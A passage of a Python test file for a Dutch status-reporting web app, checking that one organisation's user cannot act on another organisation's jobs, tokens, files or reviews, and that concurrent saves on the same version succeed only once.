        "apply B's preview",
        a.post(f"/jobs/{world.b_preview_job}/apply", data={"csrftoken": csrf}),
    )
    check(
        "apply B's preview, confirming",
        a.post(
            f"/jobs/{world.b_preview_job}/apply",
            data={"csrftoken": csrf, "confirmations": "include"},
        ),
    )
    check(
        "revoke B's token",
        a.post(f"/account/tokens/{world.b_token_id}/revoke", data={"csrftoken": csrf}),
    )
    for path in (f"/review/{world.b_proposal}", f"/periods/{world.period_id}/review/approve"):
        check(f"review {path}", a.post(path, data={"csrftoken": csrf, "decision": "approve"}))
    assert _dump_but_bookkeeping(world.app.state.engine) == before  # nothing changed so far
    # An import of B's rows by A: every row refused, nothing to apply.
    records = [
        r
        for r in export_records(Session(world.app.state.engine), world.period_id)
        if r["activity_id"] in world.b_activities
    ]
    for record in records:
        record["explanation"] = "Door A via een bestand."
    upload = a.post(
        f"/periods/{world.period_id}/import",
        data={"csrftoken": csrf},
        files={"file": ("a.csv", write_file("csv", records), "text/csv")},
        follow_redirects=False,
    )
    assert upload.status_code == 303
    a_preview = int(upload.headers["location"].rsplit("/", 1)[-1])
    page = BeautifulSoup(a.get(f"/jobs/{a_preview}").text, "html.parser")
    assert page.find(id="import-count-refused").text == str(len(records))
    assert page.find(id="import-apply-form") is None
    check(
        "apply A's preview of B's rows",
        a.post(f"/jobs/{a_preview}/apply", data={"csrftoken": csrf}),
        (409, 422),
    )
    # The API with A's token, for B's jobs and files, and as B's token's owner.
    for path in (
        f"/jobs/{world.b_preview_job}",
        f"/files/{world.b_upload_file}",
        f"/files/{world.b_export_file}",
    ):
        check(f"API token GET {path}", api.get(path), (401, 403, 404))

    # B's proposal sent back to B: A cannot answer it.
    with Session(world.app.state.engine) as session:
        periods.move_period(
            session, period_id=world.period_id, move="review", actor=world.coordinator
        )
        review.send_back(
            session,
            status_update_id=world.b_proposal,
            reviewer=world.coordinator,
            comment="Anders.",
        )
        session.commit()
    before = _dump_but_bookkeeping(world.app.state.engine)
    check(
        "reply to B's version",
        a.post(f"/review/{world.b_proposal}/reply", data={"csrftoken": csrf, "comment": "Ik."}),
    )

    wrong = [(what, status) for what, status, allowed in checks if status not in allowed]
    assert wrong == [], wrong
    assert len(checks) >= 40
    after = _dump_but_bookkeeping(world.app.state.engine)
    assert {name for name in before if before[name] != after[name]} == set()
    # B's token still works.
    b_api = TestClient(world.app, headers={"Authorization": f"Bearer {world.b_token}"})
    assert b_api.get("/api/v1/programmes").status_code == 200


# -- 5. no lost update: one success per version (the concurrent load is in the load tests) ---


def test_saves_on_the_same_version_succeed_once_whatever_the_channel(
    two_organisations: TwoOrganisations,
) -> None:
    """Four writers each save every one of A's activities on the version they loaded, in
    turn, through the form, htmx and the API: per version exactly one save succeeds, the
    others get 409, and every version's text is kept."""
    world = two_organisations
    engine = world.app.state.engine
    with Session(engine) as session:
        a_activities = organisation_activities(session, "Politie")[:5]
        second_editor = create_user(session, "editor", ("Politie",))
        coordinator_email = create_user(session, "coordinator")
        _, second_token = create_api_token(session, current_user(session, second_editor), name="2")
        session.commit()
    assert a_activities
    form_client = _client(world.app, world.a_email)
    htmx_client = _client(world.app, coordinator_email)
    apis = [
        TestClient(world.app, headers={"Authorization": f"Bearer {token}"})
        for token in (world.a_token, second_token)
    ]
    csrf = {id(c): csrf_from(c.get("/account").text) for c in (form_client, htmx_client)}

    def form_save(client: TestClient, activity_id: int, version: int, text: str, htmx: bool) -> int:
        data = {
            "csrftoken": csrf[id(client)],
            "period_id": str(world.period_id),
            "status": "delayed",
            "explanation": text,
            "based_on_version": str(version),
        }
        headers = {"HX-Request": "true"} if htmx else {}
        response = client.post(
            f"/activities/{activity_id}/status", data=data, headers=headers, follow_redirects=False
        )
        return 200 if response.status_code in (200, 303) else response.status_code

    def api_save(client: TestClient, activity_id: int, version: int, text: str) -> int:
        response = client.patch(
            f"/api/v1/activities/{activity_id}/status",
            json={"status": "delayed", "explanation": text, "based_on_version": version},
        )
        return response.status_code

    writers = [
        lambda a, v, t: form_save(form_client, a, v, t, False),
        lambda a, v, t: form_save(htmx_client, a, v, t, True),
        lambda a, v, t: api_save(apis[0], a, v, t),
        lambda a, v, t: api_save(apis[1], a, v, t),
    ]
    outcomes: dict[tuple[int, int], list[int]] = {}
    for activity_id in a_activities:
        for round_number in range(3):
            with Session(engine) as session:
                current = activities.latest_update(
                    session, activity_id=activity_id, period_id=world.period_id
                )
                assert current is not None
                base = current.version
            # Each round another writer goes first.
            order = writers[round_number:] + writers[:round_number]
            outcomes[(activity_id, base)] = [
                write(activity_id, base, f"Schrijver {number} op versie {base}.")
                for number, write in enumerate(order)
            ]
    assert len(outcomes) == 15
    assert all(sorted(codes) == [200, 409, 409, 409] for codes in outcomes.values()), outcomes
    with Session(engine) as session:
        for activity_id in a_activities:
            versions = session.scalars(
                select(StatusUpdate.version)
                .where(StatusUpdate.activity_id == activity_id)
                .where(StatusUpdate.period_id == world.period_id)
                .order_by(StatusUpdate.version)
            ).all()
            assert versions == list(range(1, 5)), (activity_id, versions)  # no gap, no double
